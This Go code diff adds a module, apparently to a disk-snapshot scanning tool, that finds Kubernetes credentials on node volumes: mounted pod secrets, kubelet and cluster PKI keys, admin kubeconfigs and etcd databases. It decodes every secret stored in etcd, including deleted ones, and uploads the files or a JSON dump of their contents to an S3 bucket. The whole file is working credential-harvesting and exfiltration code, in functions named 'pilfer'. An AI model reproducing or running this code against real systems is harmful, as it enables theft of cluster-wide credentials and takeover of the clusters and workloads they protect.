@@ -0,0 +1,352 @@
+package main
+
+import (
+	"bytes"
+	"crypto/sha256"
+	"crypto/x509"
+	"encoding/binary"
+	"encoding/hex"
+	"encoding/json"
+	"encoding/pem"
+	"fmt"
+	"io"
+	"io/fs"
+	"path"
+	"regexp"
+	"sort"
+	"strings"
+)
+
+// Kubernetes nodes are full of credentials with a lot of reach: secrets mounted into
+// pods, the kubelet's own client certificate, cluster CA keys and admin kubeconfigs
+// on control plane nodes, and on etcd nodes, every secret in the cluster. Most of it
+// is under /var/lib, which the blacklists skip, so these are matched by path first.
+
+type KubernetesArtifact struct {
+	Type string
+	Path *regexp.Regexp
+}
+
+var kubernetes_artifacts = []KubernetesArtifact{
+	// /var/lib/kubelet/pods/<pod uid>/volumes/kubernetes.io~secret/<volume>/..2024_01_01_00_00_00.000000000/<key>
+	// The files right in the volume directory are symlinks into the timestamped one
+	{Type: "kubernetes_secret_volume", Path: regexp.MustCompile(`/pods/([0-9a-f-]{36})/volumes/kubernetes\.io~(?:secret|projected)/([^/]+)/(?:\.\.[^/]+/)?([^/]+)$`)},
+	{Type: "kubelet_pki", Path: regexp.MustCompile(`/var/lib/kubelet/pki/[^/]+\.(?:pem|crt|key)$`)},
+	{Type: "kubernetes_pki", Path: regexp.MustCompile(`/etc/kubernetes/pki/.+\.(?:pem|crt|key)$`)},
+	{Type: "kubernetes_admin_conf", Path: regexp.MustCompile(`/etc/kubernetes/(?:super-)?admin\.conf$`)},
+	{Type: "etcd_database", Path: regexp.MustCompile(`/member/snap/db$`)},
+}
+
+func recognizeKubernetesArtifact(path string) *KubernetesArtifact {
+	for i := range kubernetes_artifacts {
+		if kubernetes_artifacts[i].Path.MatchString(path) {
+			return &kubernetes_artifacts[i]
+		}
+	}
+	return nil
+}
+
+// The namespace and name of a pod, from its log directory: /var/log/pods/<namespace>_<name>_<uid>.
+// Neither can have an underscore in it
+func kubernetesPod(fsys fs.FS, uid string) (string, string) {
+	logs, _ := fs.Glob(fsys, "var/log/pods/*_"+uid)
+	for _, log := range logs {
+		parts := strings.Split(path.Base(log), "_")
+		if len(parts) == 3 {
+			return parts[0], parts[1]
+		}
+	}
+	return "", ""
+}
+
+// What a piece of secret material is, without saying what it says
+func describeSecretValue(key string, value []byte) map[string]string {
+	detail := map[string]string{}
+	switch {
+	case key == ".dockerconfigjson" || key == ".dockercfg":
+		var config struct {
+			Auths map[string]interface{} `json:"auths"`
+		}
+		json.Unmarshal(value, &config)
+		registries := config.Auths
+		if key == ".dockercfg" {
+			json.Unmarshal(value, &registries)
+		}
+		var names []string
+		for registry := range registries {
+			names = append(names, registry)
+		}
+		sort.Strings(names)
+		setDetail(detail, "registries", strings.Join(names, ","))
+	case bytes.Contains(value, []byte("-----BEGIN ")):
+		for k, v := range describePEM(value) {
+			detail[k] = v
+		}
+	case jwtRE.Match(value) && len(jwtRE.Find(value)) == len(bytes.TrimSpace(value)):
+		for k, v := range describeJWT(bytes.TrimSpace(value)) {
+			detail[k] = v
+		}
+	default:
+		detail["length"] = fmt.Sprint(len(value))
+	}
+	return detail
+}
+
+// The first certificate in a PEM file, and what kind of private key is in it, if any
+func describePEM(contents []byte) map[string]string {
+	detail := map[string]string{}
+	for {
+		var block *pem.Block
+		block, contents = pem.Decode(contents)
+		if block == nil {
+			return detail
+		}
+		if strings.HasSuffix(block.Type, "PRIVATE KEY") {
+			detail["private_key"] = block.Type
+		} else if block.Type == "CERTIFICATE" && detail["certificate_subject"] == "" {
+			if certificate, err := x509.ParseCertificate(block.Bytes); err == nil {
+				for k, v := range describeX509(certificate) {
+					detail[k] = v
+				}
+				if certificate.IsCA {
+					detail["certificate_authority"] = "true"
+				}
+			}
+		}
+	}
+}
+
+// Scans a Kubernetes artifact into a typed finding, and uploads it (or, for etcd, what
+// it has in it)
+func pilferKubernetesArtifact(artifact *KubernetesArtifact, fsys fs.FS, file volumeFile, size int64, filepath string, bucketname string, report *VolumeReport) {
+	var details []map[string]string
+	switch artifact.Type {
+	case "etcd_database":
+		pilferEtcd(file, size, filepath, bucketname, report)
+		return
+	case "kubernetes_secret_volume":
+		match := artifact.Path.FindStringSubmatch(filepath)
+		contents := make([]byte, minInt(int(size), max_credential_store_size))
+		n, _ := file.ReadAt(contents, 0)
+		detail := describeSecretValue(match[3], contents[:n])
+		detail["pod_uid"] = match[1]
+		detail["volume"] = match[2]
+		detail["key"] = match[3]
+		namespace, pod := kubernetesPod(fsys, match[1])
+		setDetail(detail, "namespace", namespace)
+		setDetail(detail, "pod", pod)
+		details = append(details, detail)
+	case "kubelet_pki", "kubernetes_pki":
+		contents := make([]byte, minInt(int(size), max_credential_store_size))
+		n, _ := file.ReadAt(contents, 0)
+		if detail := describePEM(contents[:n]); len(detail) > 0 {
+			details = append(details, detail)
+		}
+	case "kubernetes_admin_conf":
+		contents := make([]byte, minInt(int(size), max_credential_store_size))
+		n, _ := file.ReadAt(contents, 0)
+		details = parseKubeconfig(contents[:n])
+	}
+
+	hash_s, err := hashFile(file)
+	if err != nil {
+		fmt.Printf("ERROR: Couldn't read file %s. Error: %s\n", filepath, err)
+		return
+	}
+	fmt.Printf("[+] found %s in file %s, hash %s\n", artifact.Type, filepath, hash_s)
+	report.AddFinding(Finding{Path: filepath, Hash: hash_s, Type: artifact.Type, Rules: []string{artifact.Type}, Details: details, Uploaded: true})
+	UploadFileToS3(file, filepath, hash_s, bucketname, report.VolumeId)
+}
+
+// One secret, as of its latest revision in etcd
+type etcdSecret struct {
+	Namespace string            `json:"namespace"`
+	Name      string            `json:"name"`
+	Type      string            `json:"type,omitempty"`
+	Data      map[string][]byte `json:"data,omitempty"`
+	// Encryption provider, for secrets that are encrypted at rest
+	Encrypted string `json:"encrypted,omitempty"`
+	// Deleted secrets stay in etcd until it's compacted
+	Deleted   bool `json:"deleted,omitempty"`
+	Revisions int  `json:"revisions"`
+}
+
+// Reads every secret out of an etcd database. The report lists them, and a JSON file
+// with their contents is uploaded in place of the whole database
+func pilferEtcd(file io.ReaderAt, size int64, filepath string, bucketname string, report *VolumeReport) {
+	db, err := openBolt(file, size)
+	if err != nil {
+		report.NoteFile(filepath, 0, "skipped", "couldn't read etcd database: "+err.Error())
+		return
+	}
+
+	secrets := map[string]*etcdSecret{}
+	var names []string
+	// Keys in the "key" bucket are revisions (8 byte main, '_', 8 byte sub), in order. A
+	// trailing 't' marks a deletion. Values are mvccpb.KeyValue protobufs
+	db.Root().Bucket("key").ForEach(func(revision []byte, value []byte, nested *boltBucket) {
+		if nested != nil {
+			return
+		}
+		var key, object []byte
+		for _, field := range protoFields(value) {
+			switch field.number {
+			case 1:
+				key = field.bytes
+			case 5:
+				object = field.bytes
+			}
+		}
+		if !bytes.HasPrefix(key, []byte("/registry/secrets/")) {
+			return
+		}
+		parts := strings.SplitN(strings.TrimPrefix(string(key), "/registry/secrets/"), "/", 2)
+		if len(parts) != 2 {
+			return
+		}
+		secret, ok := secrets[string(key)]
+		if !ok {
+			secret = &etcdSecret{Namespace: parts[0], Name: parts[1]}
+			secrets[string(key)] = secret
+			names = append(names, string(key))
+		}
+		secret.Revisions++
+		if len(revision) == 18 && revision[17] == 't' {
+			secret.Deleted = true
+			return
+		}
+		secret.Deleted = false
+		decodeEtcdSecret(object, secret)
+	})
+	if len(secrets) == 0 {
+		return
+	}
+
+	sort.Strings(names)
+	var details []map[string]string
+	var extract []*etcdSecret
+	for _, name := range names {
+		secret := secrets[name]
+		extract = append(extract, secret)
+		detail := map[string]string{
+			"namespace": secret.Namespace,
+			"secret":    secret.Name,
+			"revisions": fmt.Sprint(secret.Revisions),
+		}
+		setDetail(detail, "type", secret.Type)
+		setDetail(detail, "encrypted", secret.Encrypted)
+		if secret.Deleted {
+			detail["deleted"] = "true"
+		}
+		var keys []string
+		for key, value := range secret.Data {
+			keys = append(keys, key)
+			// Only the interesting bits: certificates, keys, tokens and registries
+			for k, v := range describeSecretValue(key, value) {
+				if k != "length" {
+					detail[key+"."+k] = v
+				}
+			}
+		}
+		sort.Strings(keys)
+		setDetail(detail, "keys", strings.Join(keys, ","))
+		details = append(details, detail)
+	}
+
+	contents, err := json.MarshalIndent(extract, "", "  ")
+	if err != nil {
+		return
+	}
+	sum := sha256.Sum256(contents)
+	hash := hex.EncodeToString(sum[:])
+	fmt.Printf("[+] found %d secrets in etcd database %s\n", len(secrets), filepath)
+	uploaded := UploadBytesToS3(contents, "etcd_secrets.json", hash, bucketname, report.VolumeId)
+	report.AddFinding(Finding{Path: filepath, Hash: hash, Type: "etcd_secrets", Rules: []string{"etcd_secrets"}, Details: details, Uploaded: uploaded})
+}
+
+// Secrets are stored as protobuf ("k8s\0" and a runtime.Unknown around a v1.Secret),
+// as JSON by clusters set up that way, or encrypted ("k8s:enc:<provider>:v1:<key>:...")
+func decodeEtcdSecret(object []byte, secret *etcdSecret) {
+	secret.Encrypted = ""
+	switch {
+	case bytes.HasPrefix(object, []byte("k8s:enc:")):
+		fields := strings.SplitN(string(object), ":", 4)
+		if len(fields) >= 3 {
+			secret.Encrypted = fields[2]
+		}
+		secret.Data = nil
+	case bytes.HasPrefix(object, []byte("k8s\x00")):
+		for _, unknown := range protoFields(object[4:]) {
+			if unknown.number != 2 {
+				continue
+			}
+			// v1.Secret: data is field 2 (a map of string to bytes), type is field 3
+			secret.Data = map[string][]byte{}
+			for _, field := range protoFields(unknown.bytes) {
+				switch field.number {
+				case 2:
+					var key string
+					var value []byte
+					for _, entry := range protoFields(field.bytes) {
+						if entry.number == 1 {
+							key = string(entry.bytes)
+						} else if entry.number == 2 {
+							value = entry.bytes
+						}
+					}
+					secret.Data[key] = value
+				case 3:
+					secret.Type = string(field.bytes)
+				}
+			}
+		}
+	case bytes.HasPrefix(bytes.TrimSpace(object), []byte("{")):
+		var decoded struct {
+			Type string            `json:"type"`
+			Data map[string][]byte `json:"data"`
+		}
+		if json.Unmarshal(object, &decoded) == nil {
+			secret.Type = decoded.Type
+			secret.Data = decoded.Data
+		}
+	}
+}
+
+type protoField struct {
+	number int
+	varint uint64
+	bytes  []byte
+}
+
+// Splits a protobuf message into its fields. Only varints and length delimited fields
+// come up in what we read, anything else ends the message
+func protoFields(data []byte) []protoField {
+	var fields []protoField
+	for len(data) > 0 {
+		tag, n := binary.Uvarint(data)
+		if n <= 0 {
+			break
+		}
+		data = data[n:]
+		field := protoField{number: int(tag >> 3)}
+		switch tag & 7 {
+		case 0:
+			field.varint, n = binary.Uvarint(data)
+			if n <= 0 {
+				return fields
+			}
+			data = data[n:]
+		case 2:
+			length, n := binary.Uvarint(data)
+			if n <= 0 || uint64(len(data)-n) < length {
+				return fields
+			}
+			field.bytes = data[n : n+int(length)]
+			data = data[n+int(length):]
+		default:
+			return fields
+		}
+		fields = append(fields, field)
+	}
+	return fields
+}